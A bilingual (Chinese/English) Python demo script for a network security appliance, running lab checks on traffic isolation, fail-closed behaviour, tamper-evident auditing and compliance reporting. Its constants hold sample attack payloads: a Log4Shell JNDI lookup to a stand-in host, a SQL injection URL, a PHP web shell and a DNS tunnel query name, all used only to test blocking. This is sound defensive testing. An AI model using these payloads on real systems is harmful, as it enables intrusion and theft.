#!/usr/bin/env python3
"""What `./dev demo` runs: the whole appliance on real traffic, one line a check, each proved where it counts.

    demo.py --programs DIR --output DIR [--lang zh|en] [--keep]

Exit status 0 when every check passed. The last line is "N passed, N failed".
"""
import argparse
import json
import os
import pathlib
import shutil
import signal
import sqlite3
import sys
import time
import unicodedata

from appliance import DEMO_POLICY, Appliance
from lab import Lab, LabError, wait_until
from servers import Client, DnsServer, WebServer

LOG4SHELL, SQL_INJECTION, WEB_SHELL, DNS_TUNNEL = 9000001, 9000020, 9000030, 9000050
LOOKUP = "${jndi:ldap://203.0.113.10/menshen-demo}"
INJECTION = "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--"
SHELL = b"<?php system($_GET['menshen-demo']); ?>\n"
TUNNEL = "6d656e7368656e2d64656d6f2d657866696c74726174696f6e2d3031.t.example"
ITEMS = 257
LABEL_WIDTH = 42
JUDGED, JUDGED_MIN = ("conforming", "partial", "failing"), 20


def language_from_environment():
    for name in ("LC_ALL", "LC_MESSAGES", "LANG"):
        if os.environ.get(name):
            return "zh" if os.environ[name].startswith("zh") else "en"
    return "en"


def pad(text, width):
    """To a number of terminal columns: a Chinese character takes two."""
    columns = sum(2 if unicodedata.east_asian_width(letter) in "WF" else 1 for letter in text)
    return text + " " * (width - columns)


class Board:
    """Prints the checks as they happen and counts them."""

    def __init__(self, lang):
        self.lang, self.passed, self.failed, self.started = lang, 0, 0, time.monotonic()

    def say(self, zh, en):
        return zh if self.lang == "zh" else en

    def section(self, zh, en):
        print(f"\n{self.say(zh, en)}", flush=True)

    def note(self, zh, en):
        print(f"  · {self.say(zh, en)}", flush=True)

    def check(self, zh, en, expected, seen, accept=None):
        """One line. `seen` is text, or a function that gives it (a LabError is what was seen). It must equal
        `expected`, or be accepted by `accept` where `expected` only says what would be."""
        if callable(seen):
            try:
                seen = seen()
            except LabError as problem:
                seen = str(problem)
        good = accept(seen) if accept else seen == expected
        self.passed, self.failed = self.passed + good, self.failed + (not good)
        print(f"  {self.say('通过', 'ok    ') if good else self.say('失败', 'FAILED')}  {pad(self.say(zh, en), LABEL_WIDTH)}  "
              f"{self.say('应为：', 'expected: ')}{expected}  {self.say('实为：', 'seen: ')}{seen}", flush=True)
        return good

    def attempt(self, zh, en, scene):
        """A scene that breaks off counts as one failed line; the others still run."""
        self.section(zh, en)
        try:
            scene()
        except LabError as problem:
            self.failed += 1
            print(f"  {self.say('失败', 'FAILED')}  {problem}", flush=True)


class Demo:
    def __init__(self, lab, board, programs, output):
        self.lab, self.board, self.output = lab, board, output
        self.check, self.say = board.check, board.say
        self.appliance = Appliance(lab, programs)
        self.finance = Client(lab, "finance")
        self.outside = Client(lab, "outside")

    # ---- the stage ---------------------------------------------------------------------------------------------

    def build(self):
        self.portal = WebServer(self.lab, "portal", download=True)
        self.tax = WebServer(self.lab, "tax")
        self.dns = DnsServer(self.lab, "portal", {"portal.example": self.v4("portal"), "t.example": self.v4("portal")})
        self.at_portal = self.lab.capture("portal", "portal", "dst", "port", "80", "or", "dst", "port", "9")
        self.at_tax = self.lab.capture("tax", "tax")
        self.board.note("四台主机与网关；nginx、dnsmasq 已就绪", "four hosts and the gate; nginx and dnsmasq are up")
        self.appliance.start()
        self.appliance.run("policy", "apply", DEMO_POLICY)
        self.board.note("auditd、policyd、sensord 已就绪，策略已下发", "auditd, policyd, sensord are ready; the policy is applied")

    def v4(self, host):
        return self.lab.hosts[host].v4

    def v6(self, host):
        return self.lab.hosts[host].v6

    # ---- scenes ------------------------------------------------------------------------------------------------

    def logged(self, server, mark):
        return self.say("已记录", "logged") if mark in server.access_log() else self.say("未记录", "not logged")

    def allowed(self):
        here, logged = self.portal, self.say("已记录", "logged")
        for zh, en, address in (("IPv4", "IPv4", self.v4("portal")), ("IPv6", "IPv6", f"[{self.v6('portal')}]")):
            self.check(f"财政 → 门户 HTTP {zh}", f"finance → portal, HTTP over {en}", f"200, {logged}",
                       lambda a=address, m=en: f"{self.finance.http(f'http://{a}/?allowed-{m}')}, {self.logged(here, f'allowed-{m}')}")
        self.check("财政 → 门户 HTTPS（验证证书）", "finance → portal, TLS, certificate verified", "TLSv1.3",
                   lambda: self.finance.tls(self.v4("portal"), "portal.example", here.certificate))
        self.check("财政 → 门户 DNS", "finance → portal, DNS lookup", self.v4("portal"),
                   lambda: self.finance.lookup(self.v4("portal"), "portal.example"))
        self.check("财政 → 门户 上传普通文件", "finance → portal, harmless upload", f"200, {self.say('已存', 'stored')}", self.harmless_upload)

    def upload(self, name, content):
        file = self.lab.root / name
        file.write_bytes(content)
        return self.finance.http(f"http://{self.v4('portal')}/upload", "-F", f"file=@{file}")

    def stored(self, content):
        return any(content in body for body in self.portal.stored_bodies())

    def harmless_upload(self):
        content = b"quarterly figures\n"
        status = self.upload("figures.txt", content)
        return f"{status}, {self.say('已存', 'stored') if self.stored(content) else self.say('未存', 'not stored')}"

    def large_download(self):
        sizes = self.lab.capture("finance", "finance", "src", "port", "80", "or", "dst", "port", "9", snaplen=128)
        self.check("64 MB 下载，经检测后的 sha256", "64 MB download, sha256 after inspection",
                   self.portal.download_sha256[:16],
                   lambda: self.finance.download(f"http://{self.v4('portal')}/large.bin", self.lab.root / "large.bin")[:16])
        self.check("超大帧（GSO）整帧通过", "super-frames (GSO) cross whole", self.say("有", "yes"),
                   lambda: self.say("有", "yes") if any(length > 9000 for length, _ in sizes.packets()) else self.say("无", "none"))
        sizes.process.stop()

    def isolation(self):
        none = self.say("无应答，对端 0 个 SYN", "no answer, 0 SYN at the peer")
        for zh, en, client, address in (
                ("财政 → 税务 IPv4", "finance → tax, IPv4", self.finance, self.v4("tax")),
                ("财政 → 税务 IPv6", "finance → tax, IPv6", self.finance, f"[{self.v6('tax')}]"),
                ("外部 → 税务", "outside → tax", self.outside, self.v4("tax"))):
            self.check(f"{zh}（未授权）", f"{en} (not in the policy)", none, lambda c=client, a=address: self.refused(c, a))
        self.check("内核隔离已入审计", "the kernel's drops are in the audit store", "isolation finance→tax",
                   lambda: self.isolation_record())

    def refused(self, client, address):
        status = client.http(f"http://{address}/")
        syns = sum(1 for _, packet in self.at_tax.packets() if is_syn(packet))
        answer = self.say("无应答", "no answer") if status == "000" else status
        return f"{answer}, {self.say(f'对端 {syns} 个 SYN', f'{syns} SYN at the peer')}".replace(", 对端", "，对端")

    def isolation_record(self):
        record = self.appliance.await_record("isolation", "--kind", "isolation", "--address", self.v4("finance"))
        return f"{record['kind']} {record.get('domain_src')}→{record.get('domain_dst')}"

    def attacks(self):
        stopped = self.say("被阻断，服务器未见", "blocked, the server never saw it")
        portal = f"http://{self.v4('portal')}"
        self.check("Log4Shell 请求头", "Log4Shell in a header", stopped,
                   lambda: self.blocked(self.finance.http(f"{portal}/?log4shell", "-H", f"X-Api-Version: {LOOKUP}"), b"jndi:ldap", "log4shell"))
        self.check("SQL 注入", "SQL injection", stopped,
                   lambda: self.blocked(self.finance.http(portal + INJECTION), b"UNION%20SELECT", "UNION"))
        self.check("WebShell 上传", "web-shell upload", stopped,
                   lambda: self.blocked(self.upload("shell.php", SHELL), SHELL.strip(), "no-such-line", SHELL.strip()))
        v6 = f"http://[{self.v6('portal')}]"
        self.check("Log4Shell 请求头 IPv6", "Log4Shell in a header, IPv6", stopped,
                   lambda: self.blocked(self.finance.http(f"{v6}/?six", "-H", f"X-Api-Version: {LOOKUP}"), b"jndi:ldap", "?six"))
        self.check("随后的正常请求不受影响", "a harmless request right after", "200", lambda: self.finance.http(portal + "/?after"))

    def blocked(self, status, on_wire, in_log, in_body=None):
        """Proved at the server: not on its wire, not in its access log, not among its stored bodies."""
        found = [what for what, seen in (("answer " + status, status != "000"), ("wire", self.at_portal.saw(on_wire)),
                                         ("access log", in_log in self.portal.access_log()),
                                         ("stored body", bool(in_body) and self.stored(in_body))) if seen]
        return ", ".join(found) or self.say("被阻断，服务器未见", "blocked, the server never saw it")

    def tunnel(self):
        self.check("DNS 隧道查询：告警而不阻断", "DNS tunnel query: alerted, not blocked", f"{self.v4('portal')}, sid {DNS_TUNNEL}",
                   lambda: f"{self.finance.lookup(self.v4('portal'), TUNNEL)}, sid {self.alert(DNS_TUNNEL)['rule']['sid']}")

    def alert(self, sid):
        return self.appliance.await_record(f"sid {sid}", "--sid", sid)

    def crash(self):
        """kill -9 of the sensor: what is not allowed stays out, what must be inspected waits; then it goes on."""
        portal, none = f"http://{self.v4('portal')}", self.say("无应答，对端 0 个 SYN", "no answer, 0 SYN at the peer")
        self.appliance.daemons["sensord"].kill()
        self.check("sensord 被 kill -9：财政 → 税务", "sensord killed (-9): finance → tax", none, lambda: self.refused(self.finance, self.v4("tax")))
        self.check("待检流量（故障关闭）", "flows to be inspected (fail-closed)", "000", lambda: self.finance.http(f"{portal}/?uninspected"))
        self.appliance.start("sensord")
        self.check("重启后正常请求", "restarted: a harmless request", "200", lambda: self.finance.http(f"{portal}/?restarted"))
        self.check("重启后攻击仍被阻断", "restarted: the attack is blocked again", self.say("被阻断，服务器未见", "blocked, the server never saw it"),
                   lambda: self.blocked(self.finance.http(portal + INJECTION), b"UNION%20SELECT", "UNION"))

    def bad_policy(self):
        """A policy with mistakes: each has its place, and the kernel keeps what it had."""
        bad = self.lab.root / "mistakes.yaml"
        bad.write_text("domains:\n  finance: {title: F, networks: [10.10.0.0/16]}\n"
                       "flows:\n  - {from: finance, to: nowhere, service: web, inspect: block, reason: x}\n")
        before = self.ruleset()
        done = self.appliance.run("policy", "apply", bad, check=False)
        self.check("有错误的策略：拒绝并指出行号", "policy with a mistake: refused, with its line", "mistakes.yaml:4",
                   "mistakes.yaml:4" if done.returncode != 0 and "mistakes.yaml:4" in done.stdout + done.stderr else done.stdout + done.stderr)
        self.check("内核规则集未变", "the kernel's ruleset is unchanged", self.say("相同", "the same"),
                   self.say("相同", "the same") if self.ruleset() == before else self.say("已变", "changed"))

    def ruleset(self):
        return self.lab.run("gate", ["nft", "--stateless", "list", "table", "inet", "menshen"]).stdout

    # ---- evidence ----------------------------------------------------------------------------------------------

    def evidence(self):
        for zh, en, sid, outcome in (("Log4Shell", "Log4Shell", LOG4SHELL, "blocked"), ("SQL 注入", "SQL injection", SQL_INJECTION, "blocked"),
                                     ("WebShell", "web shell", WEB_SHELL, "blocked"), ("DNS 隧道", "DNS tunnel", DNS_TUNNEL, "allowed")):
            self.check(f"审计：{zh}", f"audit holds: {en}", f"sid {sid} {self.v4('finance')} {outcome}", lambda s=sid: self.describe(self.alert(s)))
        self.check("审计：策略下发", "audit holds: the policy was applied", "policy.apply success",
                   lambda: "{action} {outcome}".format(**self.appliance.await_record("policy.apply", "--action", "policy.apply", "--outcome", "success")))
        self.check("审计库校验", "the audit store verifies", "intact", lambda: "intact" if self.verify(self.store())["intact"] else "broken")

    def describe(self, record):
        src = record["src"] if record["src"] != self.v6("finance") else self.v4("finance")
        return f"sid {record['rule']['sid']} {src} {record['outcome']}"

    def store(self):
        return self.appliance.state / "audit"

    def verify(self, folder):
        return self.appliance.json("audit", "verify", "--store", folder, check=False)

    def tamper(self):
        """One bit flipped in a copy, in the middle of a record: found, and located."""
        copy = self.lab.root / "tampered"
        shutil.rmtree(copy, ignore_errors=True)
        copy.mkdir()
        for path in self.store().iterdir():
            if path.suffix in (".notes", ".pub", ".seal"):
                shutil.copy(path, copy / path.name)
        for path in self.store().glob("segment-*.db"):
            with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as live, sqlite3.connect(copy / path.name) as db:
                live.backup(db)
        number = self.alert(SQL_INJECTION)["number"]
        self.check("副本未改动", "the copy as it is", "intact", lambda: "intact" if self.verify(copy)["intact"] else "broken")
        first, last = self.flip(copy, number)
        self.check("副本改动一个比特：发现并定位", "one bit flipped in a copy: found, located", self.records(first, last),
                   lambda: self.where(self.verify(copy), first, last))

    @staticmethod
    def flip(folder, number):
        """In the file itself, behind SQLite's back, as somebody with a hex editor would. Returns the records that
        the changed bytes hold: one, or a compressed block of them."""
        for database in sorted(folder.glob("segment-*.db"), reverse=True):
            with sqlite3.connect(database) as db:
                row = db.execute("SELECT n, n, bytes FROM pending WHERE n = ? UNION ALL "
                                 "SELECT first, first + 255, data FROM block WHERE ? BETWEEN first AND first + 255",
                                 (number, number)).fetchone()
            if row:
                break
        else:
            raise LabError(f"record {number} is in no segment")
        first, last, body = row
        data = bytearray(database.read_bytes())
        mark = body[-24:]
        at = data.find(mark)
        if at < 0 or data.find(mark, at + 1) >= 0:
            raise LabError("the record's bytes stand nowhere, or more than once, in the database file")
        data[at + 12] ^= 0x01
        database.write_bytes(data)
        return first, last

    @staticmethod
    def where(report, first, last):
        broken = report.get("first_break")
        if not broken:
            return "intact"
        inside = first <= broken["record"] <= last
        return Demo.records(first, last) if inside else f"record {broken['record']}"

    @staticmethod
    def records(first, last):
        return f"record {first}" if first == last else f"records {first} to {last}"

    def report(self):
        self.appliance.run("comply", "report", "--out", self.output, timeout=300)
        assessment = json.loads((self.output / "assessment.json").read_text())
        judged = [item for item in assessment["items"] if item["automation"] == "automatic" and item["verdict"] in JUDGED]
        self.check("报告中的等保三级条款数", "Level 3 items in the assessment", f"{ITEMS}", f"{len(assessment['items'])}")
        self.check("由现场证据自动判定的条款数", "items judged on this deployment's evidence", f"≥ {JUDGED_MIN}", str(len(judged)),
                   accept=lambda seen: int(seen) >= JUDGED_MIN)
        for page in ("report.zh.html", "report.en.html"):
            self.check(f"{page} 的审计证据", f"audit evidence of {page}", "genuine",
                       lambda p=page: "genuine" if self.appliance.json("comply", "verify-page", self.output / p, check=False)["genuine"] else "not")

    def status(self):
        status = self.appliance.json("status", check=False)
        (self.output / "status.json").write_text(json.dumps(status, indent=2, ensure_ascii=False))
        print("\n".join("    " + line for line in self.appliance.run("status", check=False, lang=self.board.lang).stdout.splitlines()))
        self.check("menshen status", "menshen status", "auditd policyd sensord",
                   " ".join(sorted(name for name, daemon in status["daemons"].items() if daemon.get("running"))))

    def shutdown(self):
        self.check("SIGTERM 后干净退出", "clean end on SIGTERM", "0 0 0", lambda: " ".join(map(str, self.appliance.stop().values())))
        self.check("停止后审计库仍可校验", "the store verifies after the stop", "intact", lambda: "intact" if self.verify(self.store())["intact"] else "broken")

    def play(self, keep):
        attempt = self.board.attempt
        attempt("一、放行", "1. What is allowed passes", self.allowed)
        attempt("二、隔离", "2. What is not listed does not", self.isolation)
        attempt("三、检测", "3. Attacks inside allowed flows", self.attacks)
        attempt("四、DNS 隧道", "4. DNS tunnel", self.tunnel)
        attempt("五、大流量", "5. Bulk traffic is unharmed", self.large_download)
        attempt("六、错误输入", "6. Bad input changes nothing", self.bad_policy)
        attempt("七、故障", "7. A crash opens nothing", self.crash)
        attempt("八、审计", "8. Evidence", self.evidence)
        attempt("九、防篡改", "9. Tampering is found", self.tamper)
        attempt("十、合规", "10. Compliance", self.report)
        attempt("十一、状态", "11. Status", self.status)
        if not keep:
            attempt("十二、停止", "12. The end", self.shutdown)


def is_syn(frame):
    """TCP with SYN and without ACK, over IPv4 or IPv6 (no extension headers)."""
    kind = frame[12:14]
    if kind == b"\x08\x00" and frame[23] == 6:
        flags = frame[14 + (frame[14] & 15) * 4 + 13]
    elif kind == b"\x86\xdd" and frame[20] == 6:
        flags = frame[14 + 40 + 13]
    else:
        return False
    return flags & 0x12 == 0x02


def keep_running(lab, board, output):
    """Leaves everything up until Ctrl-C, with a script that enters a host."""
    enter = output / "enter"
    cases = "\n".join(f"  {name}) exec nsenter --net=/proc/{holder.pid}/ns/net -- \"$@\" ;;" for name, holder in lab._holders.items())
    enter.write_text(f"#!/bin/sh\n# enter HOST COMMAND...\nhost=$1; shift\ncase $host in\n{cases}\nesac\n")
    enter.chmod(0o755)
    board.section("演示环境保持运行，Ctrl-C 结束。查看方法：", "Everything keeps running until Ctrl-C. To look around:")
    print(f"  {enter} finance curl -s http://10.30.0.10/\n  {enter} finance curl -m 3 http://10.20.0.10/\n"
          f"  {enter} gate nft list table inet menshen\n"
          f"  {enter} gate build/release/bin/menshen --settings {lab.root}/etc/menshen.yaml status", flush=True)
    signal.sigwait({signal.SIGINT, signal.SIGTERM})


def arguments():
    parser = argparse.ArgumentParser(description="the demo of the whole appliance")
    parser.add_argument("--programs", type=pathlib.Path, required=True)
    parser.add_argument("--output", type=pathlib.Path, required=True)
    parser.add_argument("--lang", choices=("zh", "en"), default=language_from_environment())
    parser.add_argument("--keep", action="store_true", help="leave it running until Ctrl-C")
    return parser.parse_args()


def main():
    options = arguments()
    output = options.output.resolve()
    shutil.rmtree(output, ignore_errors=True)
    output.mkdir(parents=True)
    board = Board(options.lang)
    try:
        with Lab(output / "lab") as lab:
            demo = Demo(lab, board, options.programs, output)
            board.section("〇、搭建", "0. The stage")
            demo.build()
            demo.play(options.keep)
            if options.keep:
                keep_running(lab, board, output)
    except LabError as problem:
        board.failed += 1
        print(f"  {board.say('失败', 'FAILED')}  {problem}")
    except KeyboardInterrupt:
        sys.exit(130)
    print(f"\n{board.say('合规报告', 'compliance report')}: {output}/report.zh.html  {output}/report.en.html\n"
          f"{board.say('日志与抓包', 'logs and captures')}: {output}/lab  ({time.monotonic() - board.started:.0f} s)\n")
    print(f"{board.passed} passed, {board.failed} failed")
    sys.exit(1 if board.failed else 0)


if __name__ == "__main__":
    main()
